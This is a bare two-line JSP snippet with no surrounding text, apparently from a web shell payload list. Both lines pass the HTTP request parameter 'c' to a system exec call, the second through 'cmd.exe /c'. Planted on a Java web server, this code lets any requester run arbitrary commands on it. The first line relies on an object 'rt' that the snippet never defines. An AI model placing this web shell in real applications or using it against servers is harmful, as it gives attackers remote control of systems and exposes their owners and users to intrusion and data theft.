<% Process p = rt.exec( request.getParameter( "c" ) ); %>
<% Runtime.getRuntime().exec("cmd.exe /c " + request.getParameter("c")); %>
